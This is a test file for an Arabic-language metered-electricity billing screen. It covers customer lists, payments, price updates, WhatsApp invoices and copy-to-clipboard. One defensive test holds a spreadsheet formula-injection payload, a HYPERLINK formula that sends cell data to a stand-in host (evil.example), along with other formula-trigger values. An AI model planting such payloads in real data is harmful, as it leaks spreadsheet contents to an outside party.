import { screen, waitFor, within } from '@testing-library/react';
import { parse as parseDelimited } from 'papaparse';
import { billingSystems } from '../../../test/billing-systems-fixtures';
import { kwhCustomer, kwhInvoice, liveMonth } from '../../../test/kwh-fixtures';
import { mockFetch, operator, type FakeRoute } from '../../../test/mock-fetch';
import {
  FakeEventSource,
  installFakeEventSource,
  removeFakeEventSource,
} from '../../../test/fake-event-source';
import { printInvoiceFixture } from '../../../test/print-invoice-fixtures';
import { renderApp } from '../../../test/render-app';

jest.mock('../../../lib/browser-location', () => ({ redirectBrowser: jest.fn(), reloadPage: jest.fn() }));

const unpaid = kwhCustomer({ customerNumber: 1000, name: 'محمد علي', box: '5', address: 'الشارع العام' });
const paid = kwhCustomer({
  customerNumber: 1001,
  name: 'فاطمة حداد',
  box: '12',
  address: null,
  previousKwh: 500,
  currentKwh: 0,
  consumption: 0,
  subscriptionFee: 10,
  insurance: 0,
  totalAmount: 10,
  amountPaid: 10,
  outstandingBalance: 0,
  isPaid: true,
});

/** The group's current price (docs/metered-group-price.md): not the spec's 1 dollar. */
const groupPrice = { pricePerKwh: 0.42, pricePerKwhLbp: null };

/** The server's figures for the whole group: not what the rows shown would add up to. */
const serverSummary = { totalCustomers: 137, paidCount: 90, unpaidCount: 47, totalOutstanding: 1234.56 };

function setup(system = 'mahmoud-kwh', routes: Record<string, FakeRoute> = {}, customers = [unpaid, paid]) {
  const fetchMock = mockFetch({
    'GET /api/auth/user': { status: 200, body: operator },
    'GET /api/billing-systems': { status: 200, body: billingSystems },
    [`GET /api/${system}-customers`]: { status: 200, body: customers },
    [`GET /api/${system}-customers/summary`]: { status: 200, body: serverSummary },
    [`GET /api/${system}-customers/month`]: { status: 200, body: liveMonth(system) },
    [`GET /api/${system}-customers/group-price`]: { status: 200, body: groupPrice },
    ...routes,
  });
  return { ...renderApp(`/${system}`), fetchMock };
}

function callsTo(fetchMock: jest.Mock, method: string, url: string) {
  return fetchMock.mock.calls.filter(
    ([input, init]) => String(input) === url && (init?.method ?? 'GET') === method,
  );
}

const table = () => screen.findByRole('table', { name: 'عملاء المجموعة' });

describe('the screen of a metered group', () => {
  it('shows the group by its name and lists its customers with consumption, fee, insurance and amounts', async () => {
    setup();

    const rows = within(await table()).getAllByRole('row');
    expect(screen.getByRole('heading', { level: 1, name: 'كيلوواط محمود' })).toBeInTheDocument();
    expect(rows).toHaveLength(3);
    // the footer leads to the group's bulk print page.
    expect(screen.getByRole('link', { name: 'طباعة الفواتير المجمعة' })).toHaveAttribute(
      'href',
      '/mahmoud-kwh-bulk-print',
    );
    expect(rows[1]).toHaveTextContent('محمد علي');
    expect(rows[1]).toHaveTextContent('#1000');
    expect(rows[1]).toHaveTextContent('علبة 5');
    expect(rows[1]).toHaveTextContent('الشارع العام');
    expect(rows[1]).toHaveTextContent('120');
    expect(rows[1]).toHaveTextContent('1,000 → 1,120');
    expect(rows[1]).toHaveTextContent('$10');
    expect(rows[1]).toHaveTextContent('$50');
    expect(rows[1]).toHaveTextContent('$46');
    expect(rows[1]).toHaveTextContent('غير مدفوع');
    expect(rows[2]).toHaveTextContent('مدفوع');
  });

  it('is the same page for the second group, read from its own address', async () => {
    const { fetchMock } = setup('baydawi-kwh');

    expect(await screen.findByRole('heading', { level: 1, name: 'كيلوواط البيضاوي' })).toBeInTheDocument();
    expect(within(await table()).getAllByRole('row')).toHaveLength(3);
    expect(callsTo(fetchMock, 'GET', '/api/baydawi-kwh-customers').length).toBeGreaterThan(0);
    expect(callsTo(fetchMock, 'GET', '/api/mahmoud-kwh-customers')).toHaveLength(0);
  });

  it('serves a fourth metered group added as data, without code', async () => {
    mockFetch({
      'GET /api/auth/user': { status: 200, body: operator },
      'GET /api/billing-systems': { status: 200, body: billingSystems },
      'GET /api/test-kwh-customers': { status: 200, body: [kwhCustomer({ system: 'test-kwh' })] },
      'GET /api/test-kwh-customers/month': { status: 200, body: liveMonth('test-kwh') },
      'GET /api/test-kwh-customers/summary': { status: 200, body: serverSummary },
    });
    renderApp('/test-kwh');

    expect(await screen.findByRole('heading', { level: 1, name: 'مجموعة تجريبية' })).toBeInTheDocument();
    expect(within(await table()).getAllByRole('row')).toHaveLength(2);
  });

  it('answers a path that names no metered group with the 404 page', async () => {
    mockFetch({
      'GET /api/auth/user': { status: 200, body: operator },
      'GET /api/billing-systems': { status: 200, body: billingSystems },
    });
    renderApp('/ampere-kwh');

    expect(await screen.findByText('404')).toBeInTheDocument();
  });

  it('renders only the rows near the viewport of a group of 20,000 customers', async () => {
    const many = Array.from({ length: 20_000 }, (_, index) =>
      kwhCustomer({ id: `c-${index}`, customerNumber: 1000 + index, name: `عميل ${index}` }),
    );
    setup('mahmoud-kwh', {}, many);

    const rows = within(await table()).getAllByRole('row');
    expect(rows.length).toBeGreaterThan(2);
    expect(rows.length).toBeLessThan(100);
  });

  it('shows the server’s count of customers, paid, unpaid and total outstanding in four cards', async () => {
    const { fetchMock } = setup();
    await table();

    const summary = screen.getByRole('region', { name: 'ملخص' });
    const card = (name: string) => within(summary).getByRole('heading', { name }).nextSibling;
    await waitFor(() => expect(card('إجمالي العملاء')).toHaveTextContent('137'));
    expect(card('مدفوع')).toHaveTextContent('90');
    expect(card('غير مدفوع')).toHaveTextContent('47');
    expect(card('إجمالي المستحق')).toHaveTextContent('$1,234.56');
    expect(callsTo(fetchMock, 'GET', '/api/mahmoud-kwh-customers/summary').length).toBeGreaterThan(0);
  });

  it('asks the server for the summary again after a change to the group', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/kwh-1000/mark-paid': {
        status: 200,
        body: { ...unpaid, amountPaid: 46, outstandingBalance: 0, isPaid: true },
      },
    });
    await table();
    await waitFor(() =>
      expect(callsTo(fetchMock, 'GET', '/api/mahmoud-kwh-customers/summary')).toHaveLength(1),
    );

    await user.click(screen.getByRole('button', { name: 'تسجيل محمد علي مدفوعاً' }));

    await waitFor(() =>
      expect(callsTo(fetchMock, 'GET', '/api/mahmoud-kwh-customers/summary')).toHaveLength(2),
    );
  });

  it('says there are no customers and points at the green add button when the group is empty', async () => {
    setup('mahmoud-kwh', {}, []);

    expect(await screen.findByText('لا يوجد عملاء')).toBeInTheDocument();
    expect(screen.getByText(/استخدم زر «إضافة عميل» الأخضر/)).toBeInTheDocument();
  });

  it('searches the group on the server', async () => {
    const { user } = setup('mahmoud-kwh', {
      'GET /api/mahmoud-kwh-customers/search?q=%D9%81%D8%A7%D8%B7%D9%85%D8%A9': { status: 200, body: [paid] },
    });
    await table();

    await user.type(screen.getByRole('searchbox', { name: 'بحث في العملاء' }), 'فاطمة');

    expect(await screen.findByText('نتيجة واحدة')).toBeInTheDocument();
    expect(within(await table()).getAllByRole('row')).toHaveLength(2);
  });
});

describe('the row actions', () => {
  it('offers mark paid only to the unpaid, and marks them paid on the server', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/kwh-1000/mark-paid': {
        status: 200,
        body: { ...unpaid, amountPaid: 46, outstandingBalance: 0, isPaid: true },
      },
    });
    await table();

    expect(screen.queryByRole('button', { name: 'تسجيل فاطمة حداد مدفوعاً' })).not.toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'تسجيل محمد علي مدفوعاً' }));

    expect(await screen.findByText('تم تسجيل الدفع')).toBeInTheDocument();
    expect(callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/kwh-1000/mark-paid')).toHaveLength(1);
  });

  it('deletes without a confirmation (the customer goes to the archive)', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'DELETE /api/mahmoud-kwh-customers/kwh-1001': {
        status: 200,
        body: { message: 'تم حذف العميل بنجاح', archivedId: 'a-1' },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'حذف فاطمة حداد' }));

    expect(await screen.findByText('تم حذف العميل بنجاح')).toBeInTheDocument();
    expect(callsTo(fetchMock, 'DELETE', '/api/mahmoud-kwh-customers/kwh-1001')).toHaveLength(1);
  });

  it('says why a delete failed', async () => {
    const { user } = setup('mahmoud-kwh', {
      'DELETE /api/mahmoud-kwh-customers/kwh-1001': { status: 500, body: 'boom' },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'حذف فاطمة حداد' }));

    expect(await screen.findByText('فشل في حذف العميل')).toBeInTheDocument();
  });

  it('prints the single invoice of a customer in a new tab', async () => {
    setup();
    await table();

    const link = screen.getByRole('link', { name: 'طباعة فاتورة محمد علي' });
    expect(link).toHaveAttribute('href', '/mahmoud-kwh/invoice?id=kwh-1000');
    expect(link).toHaveAttribute('target', '_blank');
  });

  it('edits a customer: every number read by the one number reader, a bad one refused by name', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/kwh-1000': (init) => ({
        status: 200,
        body: { ...unpaid, ...JSON.parse(String(init.body)), consumption: 130 },
      }),
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: /^تعديل العميل/ });
    const current = within(dialog).getByRole('textbox', { name: 'القراءة الحالية' });
    await user.clear(current);
    await user.type(current, 'abc');
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    expect(
      within(dialog).getByText(/القراءة الحالية/, { selector: '.invalid-feedback' }),
    ).toBeInTheDocument();
    expect(callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/kwh-1000')).toHaveLength(0);

    await user.clear(current);
    await user.type(current, '١١٣٠');
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    expect(await screen.findByText('تم تحديث العميل بنجاح')).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/kwh-1000');
    const body = JSON.parse(String(init.body));
    expect(body.currentKwh).toBe(1130);
    expect(body).not.toHaveProperty('totalAmount');
    // the paid amount left as loaded is not sent (a payment recorded meanwhile stays).
    expect(body).not.toHaveProperty('amountPaid');
  });

  it('sends the paid amount when the operator typed one', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/kwh-1000': (init) => ({
        status: 200,
        body: { ...unpaid, ...JSON.parse(String(init.body)) },
      }),
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: /^تعديل العميل/ });
    const paid = within(dialog).getByRole('textbox', { name: 'المبلغ المدفوع ($)' });
    await user.clear(paid);
    await user.type(paid, '٢٠');
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    expect(await screen.findByText('تم تحديث العميل بنجاح')).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/kwh-1000');
    expect(JSON.parse(String(init.body))).toMatchObject({ amountPaid: 20 });
  });

  it("shows the server's refusal of a reading below the previous one", async () => {
    const { user } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/kwh-1000': {
        status: 400,
        body: { message: 'القراءة الحالية أقل من القراءة السابقة', code: 'READING_BELOW_PREVIOUS' },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: /^تعديل العميل/ });
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    expect(await screen.findByText('فشل في تحديث العميل')).toBeInTheDocument();
    expect(screen.getByText('القراءة الحالية أقل من القراءة السابقة')).toBeInTheDocument();
  });
});

describe('the phone of a customer', () => {
  it("sends from the row exactly the invoice page's WhatsApp text, and nothing for a landline", async () => {
    // The statement on the 26th: December, $46 due, 4,117,000 LBP (the list still says November, $12).
    const invoice = kwhInvoice({
      statement: { ...kwhInvoice().statement, phone: '+96181123456', whatsApp: true },
    });
    const invoiceRoute = {
      'GET /api/mahmoud-kwh-customers/kwh-1000/invoice': { status: 200, body: invoice },
    };
    mockFetch({
      'GET /api/auth/user': { status: 200, body: operator },
      'GET /api/billing-systems': { status: 200, body: billingSystems },
      // The invoice page prints through the one print call (docs/printing.md), the same statement.
      'POST /api/print-invoices': {
        status: 200,
        body: [printInvoiceFixture({ id: 'kwh-1000', name: 'محمد علي', statement: invoice.statement })],
      },
    });
    const invoicePage = renderApp('/mahmoud-kwh/invoice?id=kwh-1000');
    const invoiceHref = (await screen.findByRole('link', { name: 'واتساب' })).getAttribute('href')!;
    invoicePage.unmount();

    const tab = { opener: {} as unknown, location: { href: '' }, close: jest.fn() };
    const open = jest.spyOn(window, 'open').mockReturnValue(tab as unknown as Window);
    const { user } = setup('mahmoud-kwh', invoiceRoute, [
      { ...unpaid, phone: '+96181123456', outstandingBalance: 12 },
      { ...paid, phone: '+9611234567' },
    ]);
    const rows = within(await table()).getAllByRole('row');
    expect(rows[1]).toHaveTextContent('81 123 456');
    await user.click(within(rows[1]).getByRole('button', { name: 'واتساب' }));

    await waitFor(() => expect(tab.location.href).toBe(invoiceHref));
    const href = new URL(tab.location.href);
    expect(href.origin + href.pathname).toBe('https://wa.me/96181123456');
    const text = href.searchParams.get('text') ?? '';
    expect(text).toContain('رقم المشترك: 1000');
    expect(text).toContain('رقم الفاتورة: INV-1000-2026');
    expect(text).toContain('فاتورة الكهرباء لشهر كانون الأول 2026.');
    expect(text).toContain('$46 (4,117,000 ل.ل)');
    // A landline (01 …): WhatsApp lives on mobiles.
    expect(within(rows[2]).queryByRole('button', { name: 'واتساب' })).not.toBeInTheDocument();
    open.mockRestore();
  });

  it('adds a customer with a phone typed in Arabic digits, sent in E.164', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'POST /api/mahmoud-kwh-customers': (init) => ({
        status: 201,
        body: kwhCustomer({ customerNumber: 1002, ...JSON.parse(String(init.body)) }),
      }),
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'إضافة عميل' }));
    const dialog = await screen.findByRole('dialog', { name: 'إضافة عميل' });
    await user.type(within(dialog).getByRole('textbox', { name: 'الاسم' }), 'سمير');
    await user.type(within(dialog).getByRole('textbox', { name: 'رقم الهاتف' }), '٠٣ ١٢٣٤٥٦');
    await user.click(within(dialog).getByRole('button', { name: 'إضافة' }));

    // the toast names the number the server gave
    expect(
      await screen.findByText('تم إنشاء العميل بنجاح: رقم العميل \u2066#1002\u2069'),
    ).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers');
    expect(JSON.parse(String(init.body))).toMatchObject({ name: 'سمير', phone: '+9613123456' });
  });

  it('refuses a phone that is not a Lebanese number in the edit dialog, sending nothing', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {}, [{ ...unpaid, phone: '+9613123456' }, paid]);
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: /^تعديل العميل/ });
    const phone = within(dialog).getByRole('textbox', { name: 'رقم الهاتف' });
    expect(phone).toHaveValue('03 123 456');
    await user.clear(phone);
    await user.type(phone, '123');
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    expect(within(dialog).getByText('رقم الهاتف غير صالح')).toBeVisible();
    expect(callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/kwh-1000')).toHaveLength(0);
  });
});

describe('the header tools', () => {
  it("adds a customer from the dialog with the price per kWh starting at the group's", async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'POST /api/mahmoud-kwh-customers': (init) => ({
        status: 201,
        body: kwhCustomer({ customerNumber: 1002, ...JSON.parse(String(init.body)) }),
      }),
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'إضافة عميل' }));
    const dialog = await screen.findByRole('dialog', { name: 'إضافة عميل' });
    expect(await within(dialog).findByRole('textbox', { name: 'سعر الكيلوواط ($)' })).toHaveValue('0.42');
    await user.type(within(dialog).getByRole('textbox', { name: 'الاسم' }), 'سمير');
    await user.click(within(dialog).getByRole('button', { name: 'إضافة' }));

    expect(await screen.findByText(/^تم إنشاء العميل بنجاح: رقم العميل/)).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers');
    expect(JSON.parse(String(init.body))).toMatchObject({ name: 'سمير', pricePerKwh: 0.42, currentKwh: 0 });
  });

  it("shows the group's price, which new customers start from", async () => {
    setup();
    const price = await screen.findByRole('region', { name: 'سعر الكيلوواط في المجموعة' });
    expect(await within(price).findByText('$0.42')).toBeInTheDocument();
    expect(price).toHaveTextContent('يبدأ منه كل عميل جديد');
  });

  it("shows a group price set in pounds in pounds, with its dollars at today's rate", async () => {
    setup('baydawi-kwh', {
      'GET /api/baydawi-kwh-customers/group-price': {
        status: 200,
        body: { pricePerKwh: 0.42, pricePerKwhLbp: 37_590 },
      },
    });
    const price = await screen.findByRole('region', { name: 'سعر الكيلوواط في المجموعة' });
    expect(await within(price).findByText('37,590 ل.ل ($0.42)')).toBeInTheDocument();
  });

  it('shows a duplicate name and box with the server message and adds it only when asked, with the same key', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'POST /api/mahmoud-kwh-customers': (init) =>
        JSON.parse(String(init.body)).force
          ? { status: 201, body: kwhCustomer({ customerNumber: 1002, name: 'محمد علي' }) }
          : {
              status: 409,
              body: {
                message: 'يوجد عميل بالاسم والعلبة نفسيهما (#1000)',
                code: 'DUPLICATE_CUSTOMER',
                existingCustomerNumber: 1000,
              },
            },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'إضافة عميل' }));
    const dialog = await screen.findByRole('dialog', { name: 'إضافة عميل' });
    await user.type(within(dialog).getByRole('textbox', { name: 'الاسم' }), 'محمد علي');
    await user.click(within(dialog).getByRole('button', { name: 'إضافة' }));
    expect(await within(dialog).findByText('يوجد عميل بالاسم والعلبة نفسيهما (#1000)')).toBeInTheDocument();
    expect(screen.queryByText('فشل في إنشاء العميل')).not.toBeInTheDocument();

    await user.click(within(dialog).getByRole('button', { name: 'إضافة على أي حال' }));

    expect(await screen.findByText(/^تم إنشاء العميل بنجاح: رقم العميل/)).toBeInTheDocument();
    const sent = callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers').map(([, init]) => init);
    expect(sent).toHaveLength(2);
    expect(JSON.parse(String(sent[1].body)).force).toBe(true);
    expect(sent[0].headers['Idempotency-Key']).toBe(sent[1].headers['Idempotency-Key']);
  });

  it('says what the undo takes back before it undoes it', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'GET /api/mahmoud-kwh-customers/undo-last-batch': {
        status: 200,
        body: {
          batchId: 'b-1',
          kind: 'import',
          createdBy: 'ahmad@example.com',
          createdAt: '2026-11-20T10:00:00.000Z',
          createdCount: 3,
          updatedCount: 0,
        },
      },
      'DELETE /api/mahmoud-kwh-customers/undo-last-batch?batchId=b-1': {
        status: 200,
        body: { deletedCount: 3, revertedCount: 0 },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تراجع عن آخر عملية' }));
    const dialog = await screen.findByRole('dialog', { name: 'التراجع عن آخر عملية؟' });
    expect(dialog).toHaveTextContent('سيتم التراجع عن استيراد');
    expect(dialog).toHaveTextContent('حذف 3 عملاء');
    await user.click(within(dialog).getByRole('button', { name: 'تراجع' }));

    expect(await screen.findByText('تم التراجع بنجاح')).toBeInTheDocument();
    expect(
      callsTo(fetchMock, 'DELETE', '/api/mahmoud-kwh-customers/undo-last-batch?batchId=b-1'),
    ).toHaveLength(1);
  });

  it('says so when there is nothing to undo', async () => {
    const { user } = setup('mahmoud-kwh', {
      'GET /api/mahmoud-kwh-customers/undo-last-batch': {
        status: 404,
        body: { message: 'لا توجد عملية للتراجع عنها' },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تراجع عن آخر عملية' }));

    expect(await screen.findByText('لا توجد عملية للتراجع عنها')).toBeInTheDocument();
    expect(screen.queryByRole('dialog')).not.toBeInTheDocument();
  });

  it('starts a new month only after the confirmation, naming the month it closes', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'POST /api/mahmoud-kwh-customers/new-month': {
        status: 200,
        body: { totalCustomers: 2, month: '2026-11', nextMonth: '2026-12' },
      },
    });
    await table();

    await user.click(
      await screen.findByRole('button', { name: 'إغلاق تشرين الثاني 2026 وبدء كانون الأول 2026' }),
    );
    const dialog = await screen.findByRole('dialog', { name: 'بدء شهر جديد؟' });
    expect(dialog).toHaveTextContent('لا يمكن التراجع عن هذه العملية.');
    // docs/printing.md: what is left unpaid is carried, and the closed month still prints.
    expect(dialog).toHaveTextContent(
      'ما بقي على أي عميل دون دفع لا يُمحى: يُنقل إلى فاتورة كانون الأول 2026 في سطر «الرصيد السابق».',
    );
    expect(dialog).toHaveTextContent('وتبقى فواتير تشرين الثاني 2026 قابلة للطباعة كما أُغلقت');
    expect(callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers/new-month')).toHaveLength(0);
    await user.click(within(dialog).getByRole('button', { name: 'بدء الشهر الجديد' }));

    expect(await screen.findByText('تم بدء شهر جديد')).toBeInTheDocument();
    // the toast names the months as the buttons do, not '2026-11'
    expect(
      screen.getByText('أُغلق شهر تشرين الثاني 2026 لـ عميلين، والشهر الحالي كانون الأول 2026'),
    ).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers/new-month');
    expect(JSON.parse(String(init.body))).toEqual({ month: '2026-11' });
  });

  it('sorts permanently after a confirmation', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'POST /api/mahmoud-kwh-customers/sort-permanently': {
        status: 200,
        body: { message: 'ok', updated: 2 },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'ترتيب دائم حسب العلبة والاسم' }));
    await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'ترتيب' }));

    expect(await screen.findByText('تم ترتيب الأسماء بشكل دائم')).toBeInTheDocument();
    expect(callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers/sort-permanently')).toHaveLength(1);
  });

  it('updates every price per kWh, refusing a price that is not above 0', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/update-all-prices': {
        status: 200,
        body: { message: 'تم تحديث الأسعار بنجاح', updated: 2 },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تحديث سعر الكيلوواط' }));
    const dialog = await screen.findByRole('dialog', { name: 'تحديث سعر الكيلوواط لجميع العملاء' });
    const submit = within(dialog).getByRole('button', { name: 'تحديث الأسعار' });
    expect(submit).toBeDisabled();
    const price = within(dialog).getByRole('textbox', { name: 'السعر الجديد للكيلوواط ($)' });
    await user.type(price, '0');
    await user.click(submit);
    expect(within(dialog).getByText('يرجى إدخال سعر صحيح')).toBeInTheDocument();

    await user.clear(price);
    await user.type(price, '0.2750');
    await user.click(submit);

    expect(await screen.findByText('تم تحديث الأسعار بنجاح')).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/update-all-prices');
    expect(JSON.parse(String(init.body))).toEqual({ pricePerKwh: 0.275 });
  });

  it('updates every price in pounds when asked: whole pounds above 0, sent as pricePerKwhLbp for the server to convert', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'PATCH /api/mahmoud-kwh-customers/update-all-prices': {
        status: 200,
        body: { message: 'تم تحديث الأسعار بنجاح', updated: 2 },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تحديث سعر الكيلوواط' }));
    const dialog = await screen.findByRole('dialog', { name: 'تحديث سعر الكيلوواط لجميع العملاء' });
    await user.click(within(dialog).getByRole('radio', { name: /بالليرة اللبنانية/ }));
    const price = within(dialog).getByRole('textbox', { name: 'السعر الجديد للكيلوواط (ل.ل)' });
    const submit = within(dialog).getByRole('button', { name: 'تحديث الأسعار' });
    await user.type(price, '0');
    await user.click(submit);
    expect(within(dialog).getByText('يرجى إدخال سعر صحيح')).toBeInTheDocument();
    expect(callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/update-all-prices')).toHaveLength(0);

    await user.clear(price);
    await user.type(price, '٢٢٤٬٠٠٠');
    await user.click(submit);

    expect(await screen.findByText('تم تحديث الأسعار بنجاح')).toBeInTheDocument();
    const [[, init]] = callsTo(fetchMock, 'PATCH', '/api/mahmoud-kwh-customers/update-all-prices');
    expect(JSON.parse(String(init.body))).toEqual({ pricePerKwhLbp: 224000 });
  });

  it('pastes a single column after a preview, empty lines dropped', async () => {
    const { user, fetchMock } = setup('mahmoud-kwh', {
      'POST /api/mahmoud-kwh-customers/column-paste': (init) => {
        const body = JSON.parse(String(init.body));
        return {
          status: 200,
          body: body.dryRun
            ? {
                updated: 2,
                changes: [
                  {
                    id: 'kwh-1000',
                    row: 1,
                    name: 'محمد علي',
                    customerNumber: 1000,
                    before: '1120',
                    after: '1200',
                  },
                  {
                    id: 'kwh-1001',
                    row: 2,
                    name: 'فاطمة حداد',
                    customerNumber: 1001,
                    before: '0',
                    after: '600',
                  },
                ],
              }
            : { updated: 2 },
        };
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'لصق عمود' }));
    const dialog = await screen.findByRole('dialog', { name: 'لصق عمود' });
    expect(within(dialog).getByRole('button', { name: 'معاينة' })).toBeDisabled();
    await user.selectOptions(within(dialog).getByRole('combobox', { name: 'العمود' }), 'currentKwh');
    await user.type(within(dialog).getByRole('textbox', { name: 'القيم' }), '1200{enter}{enter}600{enter}');
    await user.click(within(dialog).getByRole('button', { name: 'معاينة' }));

    expect(await within(dialog).findByText('سيتم تحديث سجلين')).toBeInTheDocument();
    expect(within(dialog).getByRole('table')).toHaveTextContent('1200');
    await user.click(within(dialog).getByRole('button', { name: 'لصق البيانات' }));

    expect(await screen.findByText('تم تحديث سجلين')).toBeInTheDocument();
    const sent = callsTo(fetchMock, 'POST', '/api/mahmoud-kwh-customers/column-paste').map(([, init]) =>
      JSON.parse(String(init.body)),
    );
    expect(sent).toEqual([
      { column: 'currentKwh', values: ['1200', '600'], dryRun: true },
      { column: 'currentKwh', values: ['1200', '600'] },
    ]);
  });
});

describe('the copy buttons', () => {
  it('copies the names one per line, in the order shown', async () => {
    const { user } = setup();
    await table();

    await user.click(screen.getByRole('button', { name: 'نسخ الأسماء' }));

    expect(await screen.findByText('تم نسخ العمود')).toBeInTheDocument();
    expect(await navigator.clipboard.readText()).toBe('محمد علي\nفاطمة حداد');
  });

  it('copies all the data as tab-separated lines with a header', async () => {
    const { user } = setup();
    await table();

    await user.click(screen.getByRole('button', { name: 'نسخ جميع البيانات' }));

    expect(await screen.findByText('تم نسخ العمود')).toBeInTheDocument();
    const lines = (await navigator.clipboard.readText()).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0].split('\t')[0]).toBe('رقم العميل');
    expect(lines[1].split('\t')).toEqual(
      expect.arrayContaining(['#1000', 'محمد علي', '120', '46', 'غير مدفوع']),
    );
  });

  it('copies what customers typed as data and keeps a credit a number, as a spreadsheet would read the paste', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
    const risky = kwhCustomer({
      customerNumber: 1000,
      name: hyperlink,
      box: '-عميل',
      address: '+961 3 123456',
      amountPaid: 62.5,
      outstandingBalance: -12.5,
      isPaid: true,
    });
    const { user } = setup('mahmoud-kwh', {}, [
      risky,
      kwhCustomer({ customerNumber: 1001, name: '@SUM(A1:A9)' }),
    ]);
    await table();
    const pasted = async (button: string) => {
      await user.click(screen.getByRole('button', { name: button }));
      const { data, errors } = parseDelimited<(string | number)[]>(await navigator.clipboard.readText(), {
        delimiter: '\t',
        dynamicTyping: true,
      });
      expect(errors).toEqual([]);
      for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      return data;
    };

    expect((await pasted('نسخ الأسماء')).flat()).toEqual([`'${hyperlink}`, "'@SUM(A1:A9)"]);
    expect((await pasted('نسخ العلب')).flat()).toEqual(["'-عميل", 5]);
    const all = await pasted('نسخ جميع البيانات');
    expect(all[1].slice(1, 4)).toEqual([`'${hyperlink}`, "'-عميل", "'+961 3 123456"]);
    expect(all[1]).toContain(-12.5);
  });

  it('says there is nothing to copy when the group is empty', async () => {
    const { user } = setup('mahmoud-kwh', {}, []);
    await screen.findByText('لا يوجد عملاء');

    await user.click(screen.getByRole('button', { name: 'نسخ أرقام العملاء' }));

    expect(await screen.findByText('لا توجد بيانات للنسخ')).toBeInTheDocument();
  });
});

describe('live updates', () => {
  beforeEach(installFakeEventSource);
  afterEach(removeFakeEventSource);

  it.each([
    ['mahmoud-kwh', 'mahmoud'],
    ['baydawi-kwh', 'baydawi'],
  ])(
    'follows the stream of its group (%s) and shows a customer another operator added',
    async (system, group) => {
      let customers = [unpaid];
      mockFetch({
        'GET /api/auth/user': { status: 200, body: operator },
        'GET /api/billing-systems': { status: 200, body: billingSystems },
        [`GET /api/${system}-customers`]: () => ({ status: 200, body: customers }),
        [`GET /api/${system}-customers/month`]: { status: 200, body: liveMonth(system) },
      });
      renderApp(`/${system}`);
      expect(within(await table()).getAllByRole('row')).toHaveLength(2);
      const stream = FakeEventSource.live().find((source) => source.url === `/api/sse/${group}-updates`);
      expect(stream).toBeDefined();

      customers = [unpaid, paid];
      stream!.send({ type: `${group}-customer-created`, data: { id: paid.id, name: paid.name } });

      await waitFor(() => expect(within(screen.getByRole('table')).getAllByRole('row')).toHaveLength(3));
      expect(screen.getByRole('table')).toHaveTextContent('فاطمة حداد');
    },
  );
});
